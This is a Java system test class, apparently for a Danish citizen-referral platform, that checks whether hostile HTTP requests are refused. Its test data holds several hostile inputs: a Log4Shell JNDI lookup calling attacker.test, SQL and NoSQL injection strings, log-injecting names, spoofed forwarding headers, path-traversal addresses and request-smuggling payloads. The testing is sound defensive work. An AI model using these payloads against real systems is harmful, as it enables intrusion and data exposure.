package dk.overgang.systemtests.security;

import static org.assertj.core.api.Assertions.assertThat;

import dk.overgang.systemtests.SharedPlatform;
import dk.overgang.systemtests.actors.Actors;
import dk.overgang.systemtests.platform.Api;
import dk.overgang.systemtests.platform.Api.Caller;
import dk.overgang.systemtests.platform.Reply;
import dk.overgang.systemtests.platform.Service;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What can be wrong with a request before anybody has read its body: headers, verbs, addresses, lengths.
class HttpAttacksTest {

    private static final String MARK = "written-by-a-stranger";
    private static final String JSON = "application/json";

    private final Actors actors = SharedPlatform.ACTORS;
    private final Api api = SharedPlatform.platform().api();
    private final RawHttp raw = new RawHttp(api.address(Service.REFERRAL));
    private final String worker = api.token(Caller.of("worker"));
    private final String region = api.token(Caller.of("region"));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[31m" + MARK,
                "not-a-uuid " + MARK,
                "' OR 1=1 -- " + MARK,
                "${jndi:ldap://attacker.test/" + MARK + "}"
            })
    void a28_a_strange_request_id_is_replaced_and_never_written(String id) {
        var reply = api.send(
                Service.REFERRAL,
                "/api/v1/citizens/" + UUID.randomUUID(),
                request -> request.header("Authorization", "Bearer " + worker).header("X-Request-Id", id));
        reply.is(404);
        assertThat(reply.headers().firstValue("X-Request-Id"))
                .hasValueSatisfying(own -> assertThat(UUID.fromString(own)).isNotNull());
        assertThat(reply.body()).doesNotContain(MARK);
        assertThat(SharedPlatform.platform().log()).doesNotContain(MARK);
    }

    @Test
    void a28_a_name_with_line_ends_and_colours_is_kept_as_text_and_stays_out_of_the_log() {
        var name = "Prøve\r\n2026-01-12 ERROR " + MARK + " \u001b[31mBorger";
        var body = Map.of(
                "citizen",
                Map.of("cpr", actors.authority().freshCpr(), "name", name),
                "programme",
                "SEL85-9M",
                "source",
                "PSYCHIATRY",
                "transition",
                Map.of("type", "WARD_TO_OWN_HOME"));
        var reply = api.post(Service.REFERRAL, "/api/v1/referrals", Caller.of("authority"), body);
        assertThat(reply.status()).isIn(201, 200, 400, 422);
        assertThat(SharedPlatform.platform().log()).doesNotContain(MARK);
    }

    @Test
    void a28_a_header_of_a_megabyte_is_refused() {
        var answer = raw.ask("""
                GET /api/v1/citizens/%s HTTP/1.1
                Host: localhost
                traceparent: %s

                """.formatted(UUID.randomUUID(), "0".repeat(1_000_000)));
        assertThat(answer).startsWith("HTTP/1.1 400").doesNotContain("000000", "at org.", "Exception");
        api.get(Service.REFERRAL, "/api/v1/citizens/" + UUID.randomUUID(), Caller.of("worker"))
                .is(404);
    }

    @Test
    void a28_where_a_request_says_it_comes_from_changes_nothing() {
        var body = "{\"citizen\": {\"cpr\": \"%s\", \"name\": \"Prøve Borger\"}, "
                        .formatted(actors.authority().freshCpr())
                + "\"programme\": \"SEL85-9M\", \"source\": \"PSYCHIATRY\", "
                + "\"transition\": {\"type\": \"WARD_TO_OWN_HOME\"}}";
        var reply = api.send(
                Service.REFERRAL,
                "/api/v1/referrals",
                request -> request.header("Authorization", "Bearer " + api.token(Caller.of("authority")))
                        .header("Content-Type", JSON)
                        .header("X-Forwarded-For", "127.0.0.1, " + MARK)
                        .header("X-Forwarded-Host", "attacker.test")
                        .header("X-Forwarded-Prefix", "/attacker")
                        .header("Forwarded", "for=127.0.0.1;host=attacker.test")
                        .POST(BodyPublishers.ofString(body)));
        reply.ok();
        assertThat(reply.headers().map().toString() + reply.body()).doesNotContain("attacker");
        assertThat(SharedPlatform.platform().log()).doesNotContain(MARK);
        api.send(Service.REFERRAL, "/actuator/metrics", request -> request.header("X-Forwarded-For", "127.0.0.1"))
                .is(401);
    }

    @Test
    void a32_another_verb_than_the_documented_one_does_not_get_through() {
        var citizen = "/api/v1/citizens/" + UUID.randomUUID();
        assertThat(raw.ask("""
                TRACE %s HTTP/1.1
                Host: localhost
                Authorization: Bearer %s
                Connection: close

                """.formatted(citizen, worker)))
                .startsWith("HTTP/1.1 405")
                .doesNotContain(worker);
        assertThat(raw.ask("""
                FROB %s HTTP/1.1
                Host: localhost
                Authorization: Bearer %s
                Connection: close

                """.formatted(citizen, worker))).containsPattern("^HTTP/1.1 (400|405|501)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"})
    void a32_a_header_does_not_change_the_verb(String header) {
        var path = "/api/v1/parked/%s/head".formatted(UUID.randomUUID());
        api.send(
                        Service.REFERRAL,
                        path,
                        request -> request.header("Authorization", "Bearer " + api.token(Caller.of("operator")))
                                .header(header, "DELETE")
                                .header("Content-Type", "application/x-www-form-urlencoded")
                                .POST(BodyPublishers.ofString("_method=DELETE")))
                .is(405);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "text/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/json; charset=utf-7",
                "nonsense"
            })
    void a32_json_under_another_name_is_not_read(String type) {
        assertThat(posted(type, notice("a32")).status()).isIn(400, 415);
    }

    @Test
    void a32_json_that_can_be_read_in_two_ways_is_not_read() {
        var good = notice("a32-twice");
        for (var bad : List.of(
                good.replace("{\"messageId\"", "{\"type\": \"DISCHARGED\", \"messageId\""),
                good + "{}",
                good + " x",
                "[" + good + "]",
                good.replace('"', '\''))) {
            posted(JSON, bad).is(400);
        }
        posted(JSON, good).is(202);
    }

    /// Which RFC 8259 lets a reader skip: there is one way to read it.
    @Test
    void a32_a_byte_order_mark_is_skipped() {
        posted(JSON, "\ufeff" + notice("a32-mark")).is(202);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/%2e%2e/v1/citizens/x",
                "/api/v1/../v1/parked",
                "/api/v1;x=y/parked",
                "//api/v1/parked",
                "/api/v1//parked",
                "/api/v1/%2fparked",
                "/api/v1/parked%00",
                "/api/v1/%5c..%5cparked",
                "/api\\v1\\parked"
            })
    void a33_an_address_that_two_servers_would_read_in_two_ways_is_refused(String path) {
        var answer = raw.ask("""
                GET %s HTTP/1.1
                Host: localhost
                Authorization: Bearer %s
                Connection: close

                """.formatted(path, worker));
        assertThat(answer).containsPattern("^HTTP/1.1 (400|403|404)").doesNotContain("at org.", "Tomcat");
    }

    @Test
    void a33_a_second_request_hidden_in_the_body_of_the_first_is_never_answered() {
        var hidden = """
                0

                GET /actuator/health HTTP/1.1
                Host: localhost

                """;
        var both = raw.ask("""
                POST /api/v1/hospital-notices HTTP/1.1
                Host: localhost
                Content-Type: application/json
                Content-Length: %d
                Transfer-Encoding: chunked

                %s""".formatted(hidden.length() + 5, hidden));
        assertThat(answers(both)).isLessThanOrEqualTo(1);
        assertThat(both).doesNotContain("UP");
        var strange = raw.ask("""
                POST /api/v1/hospital-notices HTTP/1.1
                Host: localhost
                Content-Type: application/json
                Content-Length: 4
                Transfer-Encoding: xchunked

                %s""".formatted(hidden));
        assertThat(answers(strange)).isLessThanOrEqualTo(1);
        assertThat(strange).containsPattern("^HTTP/1.1 (400|501)").doesNotContain("UP");
    }

    @Test
    void a33_lengths_and_hosts_that_contradict_each_other_are_refused() {
        assertThat(raw.ask("""
                POST /api/v1/hospital-notices HTTP/1.1
                Host: localhost
                Content-Length: 4
                Content-Length: 40
                Connection: close

                {}
                """)).startsWith("HTTP/1.1 400");
        assertThat(raw.ask("""
                GET /actuator/health HTTP/1.1
                Host: localhost
                Host: attacker.test
                Connection: close

                """)).startsWith("HTTP/1.1 400");
        assertThat(raw.ask("""
                GET http://attacker.test/actuator/health HTTP/1.1
                Host: localhost
                Connection: close

                """)).startsWith("HTTP/1.1 400");
        assertThat(raw.tell("GET /actuator/health HTTP/1.1\r\nHost: localhost\r\nX : y\r\nConnection: close\r\n\r\n"))
                .doesNotContain("attacker");
    }

    /// The portal sends strangers to log in: its own tests say what it shows.
    @ParameterizedTest
    @EnumSource(
            names = {"IDENTITY", "PORTAL"},
            mode = EnumSource.Mode.EXCLUDE)
    void a34_the_servers_inside_is_shown_to_nobody(Service service) {
        for (var path :
                List.of("env", "heapdump", "loggers", "shutdown", "threaddump", "beans", "configprops", "mappings")) {
            api.send(service, "/actuator/" + path, request -> request).is(401);
            api.get(service, "/actuator/" + path, Caller.of("worker")).is(403);
            api.get(service, "/actuator/" + path, Caller.of("operator")).is(404);
        }
        api.send(service, "/v3/api-docs", request -> request).is(401);
        api.send(service, "/swagger-ui/index.html", request -> request).is(401);
        var health = api.send(service, "/actuator/health", request -> request).ok();
        assertThat(health.json().propertyNames()).containsOnly("status", "groups");
    }

    @ParameterizedTest
    @EnumSource(
            names = {"IDENTITY", "PORTAL"},
            mode = EnumSource.Mode.EXCLUDE)
    void a34_an_error_tells_nothing_about_the_server(Service service) {
        for (var path : List.of("/error", "/nothing/here", "/api/v1/", "/%00")) {
            var own = new RawHttp(api.address(service));
            var answer = own.ask("""
                    GET %s HTTP/1.1
                    Host: localhost
                    Authorization: Bearer %s
                    Connection: close

                    """.formatted(path, worker));
            assertThat(answer)
                    .containsPattern("^HTTP/1.1 4\\d\\d")
                    .doesNotContain("at org.", "at java.", "Exception", "Tomcat", "Server:", "X-Powered-By");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"limit=1000000000", "limit=-1", "limit=0", "limit=1e9", "after=%27%7B%24ne%3A1%7D"})
    void a35_nobody_asks_for_everything_at_once(String query) {
        var reply = api.get(Service.COURSE, "/api/v1/courses?" + query, Caller.of("worker"));
        assertThat(reply.status()).as(reply.body()).isIn(200, 400);
        if (reply.status() == 200) {
            assertThat(reply.json().path("items").size()).isLessThanOrEqualTo(200);
        }
    }

    private String notice(String id) {
        return """
                {"messageId": "%s", "type": "ADMITTED", "episode": "%s", "citizen": {"cpr": "%s"}, \
                "occurredAt": "2026-01-12T08:00:00Z", "hospital": "ward"}""".formatted(id + UUID.randomUUID(), id, actors.authority().freshCpr());
    }

    private Reply posted(String type, String body) {
        return api.send(
                Service.REFERRAL,
                "/api/v1/hospital-notices",
                request -> request.header("Authorization", "Bearer " + region)
                        .header("Content-Type", type)
                        .POST(BodyPublishers.ofString(body)));
    }

    private static int answers(String heard) {
        return heard.split("HTTP/1.1 ", -1).length - 1;
    }
}
